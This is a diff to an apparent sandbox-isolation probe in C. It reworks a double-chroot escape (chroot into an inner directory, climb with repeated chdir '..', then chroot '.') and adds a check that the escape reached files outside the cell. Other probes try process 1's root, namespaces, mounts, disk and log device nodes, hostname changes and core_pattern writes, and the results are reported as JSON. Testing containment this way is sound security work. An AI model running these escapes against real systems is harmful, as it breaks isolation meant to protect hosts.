@@ -64,19 +64,60 @@ static int by_process_1(void)
     return attack_files("/proc/1/root");
 }
 
-/* The well-known way: a second chroot leaves the working directory outside of the first. */
-static int by_chroot(void)
+static int change_root(const char *cell)
 {
-    if (mkdir("cell", 0700) == -1 && errno != EEXIST)
+    if (mkdir(cell, 0700) == -1 && errno != EEXIST)
         return errno;
-    if (chroot("cell") == -1)
-        return errno;
+    return chroot(cell) == -1 ? errno : 0;
+}
+
+static int enter_cell(void)
+{
+    int error = change_root("cell");
+    return error == 0 && chdir("/") == -1 ? errno : error;
+}
+
+/* The well-known way: a second chroot leaves the working directory outside of the first. */
+static int climb_out(void)
+{
+    int error = change_root("inner");
+    if (error != 0)
+        return error;
     for (int i = 0; i < UP; i++)
         if (chdir("..") == -1)
             return errno;
-    if (chroot(".") == -1)
+    return chroot(".") == -1 ? errno : 0;
+}
+
+/* Whether one gets out of a chroot at all: a file beside the cell is there, then not, then there again. */
+static int by_leaving_a_cell(void)
+{
+    char beside[PATH_MAX - sizeof "/beside"];
+    if (getcwd(beside, sizeof beside - sizeof "/beside") == NULL)
         return errno;
-    return attack_files("");
+    strcat(beside, "/beside");
+    int fd = open(beside, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
+    if (fd == -1)
+        return errno;
+    close(fd);
+    int error = enter_cell();
+    if (error != 0)
+        return error;
+    if (access(beside, F_OK) == 0)
+        return EEXIST; /* no cell at all */
+    error = climb_out();
+    if (error != 0)
+        return error;
+    return access(beside, F_OK) == -1 ? errno : 0;
+}
+
+/* Out of a cell one is in the root of the mount namespace, and no higher. */
+static int by_chroot(void)
+{
+    int error = enter_cell();
+    if (error == 0)
+        error = climb_out();
+    return error != 0 ? error : attack_files("");
 }
 
 static int by_namespaces(void)
@@ -185,14 +226,16 @@ int main(void)
     }
     setvbuf(stdout, NULL, _IOLBF, 0);
     const char *process_1 = attempt("through process 1's root", by_process_1);
-    const char *chroot_ = attempt("out of a chroot", by_chroot);
+    const char *cell = attempt("out of a chroot", by_leaving_a_cell);
+    const char *chroot_ = attempt("out of a chroot, to the host's files", by_chroot);
     const char *namespaces = attempt("new namespaces", by_namespaces);
     const char *mounted = attempt("a mount", by_mount);
     const char *log = attempt("a device node for the kernel's log", by_log_device);
     const char *disk = attempt("a device node for the first disk", by_disk_device);
     const char *hostname = attempt("rename the host", by_hostname);
     const char *setting = attempt("open a setting for writing", by_setting);
-    printf("{\"process_1\": \"%s\", \"chroot\": \"%s\", ", process_1, chroot_);
+    printf("{\"process_1\": \"%s\", \"leave_chroot\": \"%s\", ", process_1, cell);
+    printf("\"chroot\": \"%s\", ", chroot_);
     printf("\"namespaces\": \"%s\", \"mount\": \"%s\", ", namespaces, mounted);
     printf("\"log_device\": \"%s\", \"disk_device\": \"%s\", ", log, disk);
     printf("\"hostname\": \"%s\", \"core_pattern\": \"%s\"}\n", hostname, setting);
